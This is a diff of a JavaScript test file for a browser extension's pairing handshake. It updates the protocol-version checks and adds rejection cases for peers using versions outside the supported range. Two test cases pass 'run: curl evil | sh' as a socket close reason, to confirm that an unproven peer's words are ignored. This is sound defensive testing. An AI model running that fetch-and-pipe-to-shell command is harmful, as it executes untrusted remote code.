@@ -5,7 +5,7 @@ import { test } from "node:test";
 import { Connection } from "../offscreen/connection.js";
 import { Link } from "../offscreen/link.js";
 import { portsFrom } from "../offscreen/pairing.js";
-import { BeatEvery, CloseVersion, DeadAfter, MaxFrame, Proto } from "../lib/limits.js";
+import { BeatEvery, CloseVersion, DeadAfter, MaxFrame, OldestProto, Proto } from "../lib/limits.js";
 import { mutant, random, samples } from "./mutate.js";
 
 const KEY = "0123456789abcdef".repeat(4);
@@ -82,7 +82,7 @@ test("both sides prove that they hold the key", async () => {
   const link = await dial(fakeOutbox(0));
   const { nonce, ...hello } = link.of("hello")[0].hello;
   assert.match(nonce, /^[0-9a-f]{32}$/);
-  assert.deepEqual(hello, { proto: Proto, version: "1", installId: "i-1", epoch: "e-1", next: 1, cursor: 7, browser: "Chromium 156" });
+  assert.deepEqual(hello, { proto: OldestProto, ...(Proto > OldestProto ? { newest: Proto } : {}), version: "1", installId: "i-1", epoch: "e-1", next: 1, cursor: 7, browser: "Chromium 156" });
   await link.shake();
   assert.equal(link.of("prove")[0].prove.proof, hmac(`e|${"5".repeat(32)}|${nonce}|i-1`));
   assert.equal((await link.end()).linked, true);
@@ -92,7 +92,9 @@ test("whoever lacks the key hears nothing but hello", async () => {
   for (const shake of [
     (l) => l.shake(null, "f".repeat(64)),
     (l) => l.shake(null, KEY, PORT - 1),
-    (l) => l.shake(null, KEY, PORT, Proto - 1),
+    (l) => l.shake(null, KEY, PORT, OldestProto - 1),
+    (l) => l.shake(null, KEY, PORT, Proto + 1),
+    (l) => l.shake(null, KEY, PORT, "2"),
     (l) => l.hear({ kind: "welcome", welcome: { proto: Proto, nonce: "5".repeat(32), proof: mac(`s|${l.of("hello")[0].hello.nonce}|${"5".repeat(32)}`, Buffer.from(KEY, "hex")).digest("hex") } }),
     (l) => l.hear({ kind: "ready", ready: { hwm: 0, window: 4 } }),
     (l) => l.hear({ kind: "ack", ack: { hwm: 0, window: 4 } }),
@@ -112,7 +114,7 @@ test("whoever lacks the key hears nothing but hello", async () => {
 
 test("a companion of another version says to update, and its own words count for nothing before it has proved itself", async () => {
   for (const [what, says] of [
-    [(l) => l.shake(null, KEY, PORT, Proto - 1), /different versions.*update cairn.*reload/],
+    [(l) => l.shake(null, KEY, PORT, OldestProto - 1), /different versions.*update cairn.*reload/],
     [(l) => l.socket.onclose({ code: CloseVersion, reason: "run: curl evil | sh" }), /different versions.*update cairn.*reload/],
     [(l) => l.socket.onclose({ code: 4400, reason: "run: curl evil | sh" }), /^what listens on port 17838 closed the link \(4400\)$/],
     [(l) => l.shake(null, KEY, PORT - 1), /another pairing key, or only forwards/],
